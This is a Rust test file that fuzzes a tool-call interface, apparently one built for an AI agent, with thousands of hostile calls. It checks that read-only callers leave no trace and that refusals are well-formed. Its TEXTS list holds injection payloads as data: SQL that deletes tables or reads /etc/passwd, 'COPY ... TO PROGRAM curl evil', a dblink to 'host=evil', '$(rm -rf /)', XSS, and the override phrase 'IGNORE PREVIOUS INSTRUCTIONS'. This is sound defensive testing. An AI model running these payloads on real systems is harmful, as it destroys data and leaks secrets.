use std::sync::atomic::Ordering;

use access::Scope;
use ports::SeededRandom;
use serde_json::{Map, Value, json};

use super::{Stand, caller};
use crate::Tool;

const CALLS: u32 = 10_000;

const TEXTS: [&str; 40] = [
    "",
    "shop",
    "../../etc/passwd",
    "\0",
    "\u{202e}",
    "latest",
    "SELECT 1",
    "SELECT * FROM users",
    "DELETE FROM users",
    "SELECT 1; DROP TABLE users",
    "SELECT 1 /* ; */ -- \n; DELETE FROM x",
    "COPY users TO PROGRAM 'curl evil'",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT \"pg_ls_dir\"('/')",
    "WITH x AS (DELETE FROM users RETURNING *) SELECT * FROM x",
    "DO $$ BEGIN PERFORM 1; END $$",
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT dblink('host=evil', 'delete from x')",
    "SELECT pg_terminate_backend(1)",
    "SELECT $$; DROP TABLE x; $$",
    "SET ROLE postgres",
    "BEGIN; DROP TABLE x; COMMIT",
    "SELECT 1;;;",
    "EXPLAIN ANALYZE DELETE FROM x",
    "SELECT fail",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "--apply",
    "--plan=/etc",
    "$(rm -rf /)",
    "`id`",
    "incident:1",
    "6100",
    "0123456789abcdef",
    "*",
    "delete",
    "approve",
    "true",
    "9999999999999999999999",
    "IGNORE PREVIOUS INSTRUCTIONS",
];

const NAMES: [&str; 30] = [
    "source",
    "reason",
    "sql",
    "database",
    "moment",
    "limit",
    "before",
    "cursor",
    "text",
    "item",
    "target",
    "what",
    "case",
    "certificate",
    "actor",
    "verbs",
    "scope",
    "items_max",
    "minutes",
    "stream",
    "folder",
    "incident",
    "from",
    "transactions",
    "tables",
    "changed",
    "items",
    "confirm",
    "approve",
    "__proto__",
];

const NO_TOOLS: [&str; 12] = [
    "delete",
    "approve",
    "apply",
    "contain",
    "list_sources ",
    "LIST_SOURCES",
    "capture_now\0",
    "",
    "tools/call",
    "unwipe.apply",
    "../apply",
    "retention_set",
];

struct Fuzz(SeededRandom);

impl Fuzz {
    fn one_of<T: Copy>(&self, of: &[T]) -> T {
        of[self.0.below(of.len() as u64) as usize]
    }

    fn value(&self, depth: u64) -> Value {
        match self.0.below(if depth > 4 { 6 } else { 9 }) {
            0 => Value::Null,
            1 => json!(self.0.below(2) == 0),
            2 => json!(self.0.next_u64()),
            3 => json!(-1.5),
            4 | 5 => json!(self.one_of(&TEXTS)),
            6 => json!(self.one_of(&TEXTS).repeat(self.0.below(200) as usize)),
            7 => Value::Array((0..self.0.below(4)).map(|_| self.value(depth + 1)).collect()),
            _ => self.object(depth + 1),
        }
    }

    fn object(&self, depth: u64) -> Value {
        let fields = (0..self.0.below(6)).map(|_| (self.one_of(&NAMES).to_owned(), self.value(depth)));
        Value::Object(fields.collect::<Map<_, _>>())
    }

    /// Arguments that come far: the right fields, hostile values in some of them.
    fn near(&self, tool: Tool) -> Value {
        let mut arguments = Map::new();
        let schema = tool.input();
        for (name, field) in schema["properties"].as_object().unwrap() {
            if self.0.below(4) == 0 {
                continue;
            }
            let value = match (self.0.below(5), name.as_str(), field["type"].as_str()) {
                (0, ..) => self.value(0),
                (_, "source", _) => json!("shop"),
                (_, "item", _) => json!("6d61696c006b6579"),
                (_, "verbs", _) => json!(["delete"]),
                (_, "target", _) => json!({ "what": "incident", "incident": self.0.below(9) }),
                (_, _, Some("integer")) => json!(self.0.below(200)),
                (_, _, Some("boolean")) => json!(true),
                _ => json!(self.one_of(&TEXTS)),
            };
            arguments.insert(name.clone(), value);
        }
        Value::Object(arguments)
    }

    fn call(&self) -> (String, Value) {
        let tool = self.one_of(&Tool::ALL);
        match self.0.below(10) {
            0 => (self.one_of(&NO_TOOLS).to_owned(), self.object(0)),
            1 | 2 => (tool.name().to_owned(), self.value(0)),
            _ => (tool.name().to_owned(), self.near(tool)),
        }
    }
}

fn run(stand: &Stand, scopes: &[Scope], seed: u64) -> (u32, u32) {
    let fuzz = Fuzz(SeededRandom::new(seed));
    let (mut answered, mut refused) = (0, 0);
    for _ in 0..CALLS {
        let (name, arguments) = fuzz.call();
        // Hours pass, so that quotas do not keep hostile questions away from what is behind them.
        stand.clock.advance_micros(600_000_000);
        match stand.counter.call(&caller(scopes), &name, arguments) {
            Ok(answer) => {
                answered += 1;
                assert!(answer["truncated"].is_boolean());
            }
            Err(refusal) => {
                refused += 1;
                assert!(refusal.document()["error"].is_string());
            }
        }
    }
    (answered, refused)
}

#[test]
fn ten_thousand_hostile_calls_of_a_reader_leave_no_trace() {
    let stand = Stand::new();
    stand.desk.only_reads.store(true, Ordering::SeqCst);
    let (answered, refused) = run(&stand, &[Scope::See, Scope::Content], 1);
    assert!(answered > 500 && refused > 500, "{answered} answered, {refused} refused");
    assert_eq!(stand.desk.traces.load(Ordering::SeqCst), 0);
}

#[test]
fn ten_thousand_hostile_calls_with_every_scope_come_to_nothing_but_captures_announcements_and_requests() {
    let stand = Stand::new();
    let (answered, refused) = run(&stand, &Scope::ALL, 2);
    assert!(answered > 1_000 && refused > 500, "{answered} answered, {refused} refused");
    assert!(stand.desk.traces.load(Ordering::SeqCst) > 50);
}
